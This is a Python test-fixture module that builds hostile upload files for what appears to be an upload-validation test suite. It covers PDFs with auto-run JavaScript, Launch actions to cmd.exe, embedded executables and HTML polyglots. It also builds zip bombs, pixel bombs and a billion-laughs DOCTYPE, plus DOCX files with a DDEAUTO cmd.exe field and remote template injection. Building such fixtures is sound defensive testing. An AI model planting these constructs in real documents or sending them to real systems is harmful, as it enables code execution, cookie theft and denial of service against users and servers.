"""Hostile and valid upload files, built in code (no binary file is committed).

Used by ``tests/campaign/test_uploads.py`` and by ``bench/uploads_hostile.py``.
Every builder returns the bytes of one file; the PDFs are written by hand, with
a correct cross-reference table, so that each carries exactly the feature it
is named after and nothing else.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter

MB = 1024 * 1024

# --- PDF ----------------------------------------------------------------------------


def pdf_bytes(*, pages: int = 1, password: str | None = None) -> bytes:
    """A valid PDF written by pypdf."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(objects: dict[int, bytes], *, header_comment: bytes = b"") -> bytes:
    """A PDF of the given objects (object 1 is the catalog) with a classic
    cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + header_comment)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        xref,
    )
    return bytes(out)


def raw_pdf_with_object_stream(
    objects: dict[int, bytes], in_stream: dict[int, bytes]
) -> bytes:
    """A PDF 1.5 file: ``objects`` written plainly, ``in_stream`` compressed
    inside one object stream, and a cross-reference stream listing both."""
    pieces = []
    positions = []
    length = 0
    for number in sorted(in_stream):
        positions.append((number, length))
        pieces.append(in_stream[number] + b"\n")
        length += len(pieces[-1])
    body = b"".join(pieces)
    header = b" ".join(b"%d %d" % pair for pair in positions) + b"\n"
    data = zlib.compress(header + body)
    stream_number = max([*objects, *in_stream]) + 1
    xref_number = stream_number + 1
    all_objects = dict(objects)
    all_objects[stream_number] = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n" % (len(in_stream), len(header), len(data)) + data + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(all_objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + all_objects[number] + b"\nendobj\n"
    index_of = {number: index for index, (number, _) in enumerate(positions)}
    size = xref_number + 1
    entries = []
    for number in range(size):
        if number in offsets:
            entries.append(struct.pack(">BII", 1, offsets[number], 0))
        elif number in index_of:
            entries.append(struct.pack(">BII", 2, stream_number, index_of[number]))
        elif number == xref_number:
            entries.append(struct.pack(">BII", 1, len(out), 0))
        else:
            entries.append(struct.pack(">BII", 0, 0, 65535))
    rows = b"".join(entries)
    xref = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d >>\n"
        b"stream\n"
        % (xref_number, size, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return bytes(out)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s>>"


def _one_page(
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    more: dict[int, bytes] | None = None,
) -> dict[int, bytes]:
    objects = {1: _CATALOG % catalog_extra, 2: _PAGES, 3: _PAGE % page_extra}
    objects.update(more or {})
    return objects


def simple_raw_pdf() -> bytes:
    """A valid hand-written PDF (the builders below differ from it by one feature)."""
    return raw_pdf(_one_page())


def pdf_with_open_action_javascript() -> bytes:
    return raw_pdf(
        _one_page(b"/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >> ")
    )


def pdf_with_launch_action() -> bytes:
    """A link that starts a program when clicked."""
    return raw_pdf(
        _one_page(
            page_extra=b"/Annots [4 0 R] ",
            more={
                4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
                b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>"
            },
        )
    )


def pdf_with_embedded_file() -> bytes:
    return raw_pdf(
        _one_page(
            b"/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 4 0 R] >> >> ",
            more={
                4: b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 5 0 R >> >>",
                5: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            },
        )
    )


def pdf_with_file_attachment_annotation() -> bytes:
    return raw_pdf(
        _one_page(
            page_extra=b"/Annots [4 0 R] ",
            more={
                4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
                b"/FS (x.bat) >>"
            },
        )
    )


def pdf_with_additional_actions() -> bytes:
    """A page that opens a web address by itself when it is shown."""
    return raw_pdf(
        _one_page(
            page_extra=b"/AA << /O << /S /URI /URI (http://example.invalid/) >> >> "
        )
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """JavaScript hidden where a byte search cannot see it: compressed inside an
    object stream, its name written with a #-escape (/J#53 is /JS)."""
    return raw_pdf_with_object_stream(
        {1: _CATALOG % b"/OpenAction 4 0 R ", 2: _PAGES, 3: _PAGE % b""},
        {4: b"<< /S /JavaScript /J#53 (app.alert\\(1\\)) >>"},
    )


def pdf_with_xfa_form() -> bytes:
    return raw_pdf(
        _one_page(
            b"/AcroForm << /Fields [] /XFA 4 0 R >> ",
            more={4: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"},
        )
    )


def pdf_opening_on_a_page() -> bytes:
    """Valid: /OpenAction with a destination only shows the first page."""
    return raw_pdf(_one_page(b"/OpenAction [3 0 R /Fit] "))


def pdf_with_a_web_link() -> bytes:
    """Valid: a link to a web page, followed only when the reader clicks it."""
    return raw_pdf(
        _one_page(
            page_extra=b"/Annots [4 0 R] ",
            more={
                4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
                b"/A << /S /URI /URI (https://angiang.gov.vn/) >> >>"
            },
        )
    )


def pdf_with_repeated_page_tree(*, levels: int = 7, fan_out: int = 10) -> bytes:
    """About 1 KB: each level of the page tree lists the next level ten times,
    so a naive walk meets 10^7 pages."""
    objects = {1: _CATALOG % b""}
    for level in range(levels):
        number = 2 + level
        kids = b" ".join([b"%d 0 R" % (number + 1)] * fan_out)
        objects[number] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
            kids,
            fan_out ** (levels - level),
        )
    objects[2 + levels] = b"<< /Type /Page /MediaBox [0 0 10 10] >>"
    return raw_pdf(objects)


def pdf_with_cyclic_page_tree() -> bytes:
    """A page-tree node among whose kids is the root itself."""
    return raw_pdf(
        {
            1: _CATALOG % b"",
            2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            3: _PAGE % b"",
            4: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def pdf_with_object_stream_flood(count: int = 100_000) -> bytes:
    """About 0.5 MB: one object stream holding ``count`` tiny objects (pypdf
    alone: 4.5 s and +225 MB to read the first one)."""
    return raw_pdf_with_object_stream(
        _one_page(),
        {10 + i: b"<</A [1 2 3] /B (x)>>" for i in range(count)},
    )


def pdf_html_polyglot() -> bytes:
    """A valid PDF that a browser would also render as a page with a script."""
    return raw_pdf(
        _one_page(),
        header_comment=b"%<html><script>alert(document.cookie)</script></html>\n",
    )


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a zip archive (appended after %%EOF)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return simple_raw_pdf() + out.getvalue()


# --- Images -------------------------------------------------------------------------

GPS_LATITUDE = (10.0, 22.0, 5.0)


def image_bytes(fmt: str, size: tuple[int, int] = (4, 3), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 16, 46)).save(out, format=fmt, **save)
    return out.getvalue()


def jpeg_with_gps_exif(size: tuple[int, int] = (64, 48)) -> bytes:
    """A phone photo's metadata: GPS position, camera, an ICC profile, XMP and
    a comment — and an orientation tag (turn 90°: stored 64×48, shown 48×64)."""
    image = Image.new("RGB", size, (12, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Camera Maker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = GPS_LATITUDE
    gps[3] = "E"
    gps[4] = (105.0, 26.0, 7.0)
    out = io.BytesIO()
    image.save(
        out,
        format="JPEG",
        exif=exif,
        icc_profile=b"\x00" * 128,
        comment=b"Long Xuyen, An Giang",
        xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>secret</x:xmpmeta>",
        quality=90,
    )
    return out.getvalue()


def png_with_text_and_trailing_html() -> bytes:
    """A PNG with a text chunk and an HTML page after its end (IEND)."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Toạ độ: 10.3689, 105.4353")
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (0, 128, 0)).save(out, format="PNG", pnginfo=info)
    return out.getvalue() + b"<html><script>alert(1)</script></html>"


def png_pixel_bomb(side: int = 20_000) -> bytes:
    """About 50 KB that decode to ``side``² pixels (400 megapixels of black,
    50 MB even at one bit a pixel), written chunk by chunk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    # Width, height, 1 bit per pixel, greyscale, deflate, no filter, no interlace.
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (side + 7) // 8)
    rows_at_once = 256
    data = []
    for _ in range(side // rows_at_once):
        data.append(compressor.compress(row * rows_at_once))
    data.append(compressor.compress(row * (side % rows_at_once)))
    data.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", b"".join(data))
        + chunk(b"IEND", b"")
    )


# --- DOCX ---------------------------------------------------------------------------

W_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def content_types(main: str = W_MAIN, overrides: dict[str, str] | None = None) -> str:
    rows = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>'
        for name, kind in (overrides or {}).items()
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{rows}</Types>'
    )


def relationships(*rows: tuple[str, str, str | None]) -> str:
    """``(type, target, target_mode)`` rows; the type is the last part of its URI."""
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(rows, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{body}</Relationships>'
    )


def document_xml(body: str = "<w:p><w:r><w:t>Kế hoạch</w:t></w:r></w:p>") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{REL}"><w:body>{body}</w:body>'
        "</w:document>"
    )


def docx_bytes(
    *,
    parts: dict[str, str | bytes] | None = None,
    main: str = W_MAIN,
    overrides: dict[str, str] | None = None,
    document: str | bytes | None = None,
    document_rels: str | None = None,
    with_document: bool = True,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A Word document with the given extra ``parts``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", content_types(main, overrides))
        archive.writestr(
            "_rels/.rels", relationships(("officeDocument", "word/document.xml", None))
        )
        if with_document:
            archive.writestr(
                "word/document.xml",
                document if document is not None else document_xml(),
            )
        if document_rels is not None:
            archive.writestr("word/_rels/document.xml.rels", document_rels)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_declaring_192_mb() -> bytes:
    """The reported file: about 190 KB whose [Content_Types].xml really
    decompresses to 192 MB (valid XML followed by spaces)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("[Content_Types].xml", "w", force_zip64=True) as member:
            member.write(content_types().encode())
            spaces = b" " * MB
            for _ in range(192):
                member.write(spaces)
        archive.writestr(
            "_rels/.rels", relationships(("officeDocument", "word/document.xml", None))
        )
        archive.writestr("word/document.xml", document_xml())
    return out.getvalue()


def docx_zip_bomb(*, members: int = 3, member_bytes: int = 2 * MB) -> bytes:
    """A small file whose pictures decompress to ``members × member_bytes`` of
    zeros (each declared truthfully)."""
    zeros = b"\x00" * member_bytes
    return docx_bytes(
        parts={f"word/media/image{i}.png": zeros for i in range(1, members + 1)}
    )


def docx_with_high_ratio_member(size: int = 8 * MB) -> bytes:
    """One member compressing about 1,000 to 1: under every size cap, over the
    ratio (judged on the bytes as they come out)."""
    return docx_bytes(parts={"word/media/image1.png": b"\x00" * size})


def docx_member_lying_about_its_size() -> bytes:
    """A member whose directory entry says 1 KB while its data inflates to 4 MB."""
    data = bytearray(docx_bytes(parts={"word/media/image1.png": b"\x00" * (4 * MB)}))
    # The central directory comes last: the last mention of the name is its
    # entry there, whose uncompressed size sits 24 bytes after its signature.
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/image1.png"))
    struct.pack_into("<I", data, entry + 24, 1024)
    return bytes(data)


def docx_with_overlapping_members() -> bytes:
    """Two directory entries pointing at the same bytes (the overlap that
    "better zip bombs" use to expand one compressed stream many times)."""
    data = bytearray(docx_bytes(parts={"word/media/a.png": b"\x00" * 4096}))
    entries = []
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        entries.append(position)
        position = data.find(b"PK\x01\x02", position + 4)
    document_offset = None
    for entry in entries:
        name_length = struct.unpack_from("<H", data, entry + 28)[0]
        name = bytes(data[entry + 46 : entry + 46 + name_length])
        offset = struct.unpack_from("<I", data, entry + 42)[0]
        if name == b"word/document.xml":
            document_offset = offset
    for entry in entries:
        name_length = struct.unpack_from("<H", data, entry + 28)[0]
        if bytes(data[entry + 46 : entry + 46 + name_length]) == b"word/media/a.png":
            struct.pack_into("<I", data, entry + 42, document_offset)
    return bytes(data)


def docx_with_many_parts(count: int) -> bytes:
    return docx_bytes(parts={f"word/media/p{i}.png": b"x" for i in range(count)})


def docx_with_nested_archive() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bin", b"\x00" * 1024)
    return docx_bytes(parts={"word/media/image1.png": inner.getvalue()})


def docx_with_vba_project() -> bytes:
    """Macros added to a .docx: vbaProject.bin with its relationship."""
    return docx_bytes(
        parts={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
        },
        document_rels=relationships(("vbaProject", "vbaProject.bin", None)),
        overrides={"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    )


def docm_bytes() -> bytes:
    """A macro-enabled document (.docm) renamed .docx."""
    return docx_bytes(main=DOCM_MAIN)


def docx_with_external_template() -> bytes:
    """Template injection: settings.xml attaches a template fetched from a server."""
    return docx_bytes(
        parts={
            "word/settings.xml": (
                f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>'
            ),
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "http://192.0.2.1/mau.dotm", "External")
            ),
        }
    )


def docx_with_remote_image() -> bytes:
    return docx_bytes(
        document_rels=relationships(("image", "http://192.0.2.1/pixel.png", "External"))
    )


def docx_with_activex() -> bytes:
    return docx_bytes(
        parts={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>"},
        document_rels=relationships(("control", "activeX/activeX1.xml", None)),
    )


def docx_with_dde_field() -> bytes:
    """{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }, split over two runs."""
    return docx_bytes(
        document=document_xml(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            "<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            '"/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    )


def docx_with_includepicture_field() -> bytes:
    return docx_bytes(
        document=document_xml(
            '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://192.0.2.1/a.png" '
            "\\d '/></w:p>"
        )
    )


def docx_with_web_link() -> bytes:
    """Valid: a hyperlink to a web page (TargetMode External, type hyperlink)."""
    return docx_bytes(
        document_rels=relationships(
            ("hyperlink", "https://angiang.gov.vn/", "External")
        )
    )


def docx_with_doctype() -> bytes:
    """Entity expansion ("billion laughs") in [Content_Types].xml."""
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "ha">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    data = bytearray(docx_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as source:
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for info in source.infolist():
                content = source.read(info.filename)
                if info.filename == "[Content_Types].xml":
                    content = laughs.encode() + content.split(b"?>", 1)[1].replace(
                        b'Extension="xml"', b'Extension="xml" Note="&c;"'
                    )
                archive.writestr(info.filename, content)
    return out.getvalue()


def docx_with_trailing_data() -> bytes:
    """An HTML page appended after the zip's end."""
    return docx_bytes() + b"<html><script>alert(1)</script></html>"
